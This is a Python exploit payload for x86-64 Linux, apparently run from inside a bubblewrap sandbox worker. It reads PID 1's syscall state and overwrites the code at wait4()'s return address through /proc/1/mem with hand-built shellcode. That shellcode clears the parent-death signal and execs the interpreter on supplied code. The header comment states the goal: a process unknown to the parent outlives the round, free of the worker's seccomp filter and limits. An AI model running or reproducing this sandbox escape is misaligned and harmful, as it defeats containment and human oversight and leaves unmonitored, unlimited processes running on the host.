# Payload (x86-64 Linux): take over PID 1 of the sandbox, bubblewrap's init process, through /proc/1/mem.
#
# PID 1 runs under bubblewrap's start-up seccomp filter only (not the worker's: exec, fork, kill and
# sockets are allowed there), with none of the worker's rlimits, and it holds the protocol pipes. It
# shares the worker's uid, so the worker may open /proc/1/mem for writing (writes there ignore page
# protections). PID 1 sleeps in wait4() until its child, the worker, exits: the code at the address
# the syscall returns to is replaced with a small program that clears PR_SET_PDEATHSIG (so PID 1 no
# longer dies with bubblewrap's outer process, the one the parent kills) and execs the interpreter with
# `values["code"]`; then the worker exits. If this works, a process the parent knows nothing about
# outlives the round with no seccomp filter of the worker and no limits.
import struct

SYS_PRCTL, SYS_EXECVE, SYS_EXIT_GROUP, PR_SET_PDEATHSIG = 157, 59, 231, 1


def program(at, path, argv):
    """Machine code at address `at`: prctl(PR_SET_PDEATHSIG, 0); execve(path, argv, NULL); exit_group(7)."""
    data_at = at + 64
    strings = [path, *argv[1:]]
    table_at = data_at
    text_at = table_at + 8 * (len(strings) + 1)
    pointers, text = [], b""
    for s in strings:
        pointers.append(text_at + len(text))
        text += s + b"\0"
    data = b"".join(struct.pack("<Q", p) for p in pointers) + struct.pack("<Q", 0) + text
    code = (
        b"\xbf" + struct.pack("<I", PR_SET_PDEATHSIG)  # mov edi, PR_SET_PDEATHSIG
        + b"\x31\xf6\x31\xd2\x45\x31\xd2\x45\x31\xc0"  # xor esi,esi; xor edx,edx; xor r10d,r10d; xor r8d,r8d
        + b"\xb8" + struct.pack("<I", SYS_PRCTL) + b"\x0f\x05"  # mov eax, prctl; syscall
        + b"\x48\xbf" + struct.pack("<Q", pointers[0])  # movabs rdi, path
        + b"\x48\xbe" + struct.pack("<Q", table_at)  # movabs rsi, argv
        + b"\x31\xd2"  # xor edx, edx (envp = NULL)
        + b"\xb8" + struct.pack("<I", SYS_EXECVE) + b"\x0f\x05"  # mov eax, execve; syscall
        + b"\xbf\x07\x00\x00\x00"  # mov edi, 7
        + b"\xb8" + struct.pack("<I", SYS_EXIT_GROUP) + b"\x0f\x05"  # mov eax, exit_group; syscall
    )
    return code.ljust(64, b"\x90") + data


def take_over():
    fields = open("/proc/1/syscall").read().split()
    resume_at = int(fields[-1], 16)  # where wait4() returns to in PID 1
    path = os.path.realpath("/proc/self/exe").encode()
    blob = program(resume_at, path, [b"python", b"-c", values["code"].encode()])
    fd = os.open("/proc/1/mem", os.O_RDWR)
    try:
        os.pwrite(fd, blob, resume_at)
    finally:
        os.close(fd)
    return fields[0], hex(resume_at)


if attempt("pid1_status", lambda: [l for l in open("/proc/1/status").read().splitlines() if l.startswith("Seccomp")]):
    pass
if attempt("take_over_pid1", take_over) is not None:
    os._exit(0)  # PID 1's wait4() returns: it runs the program above
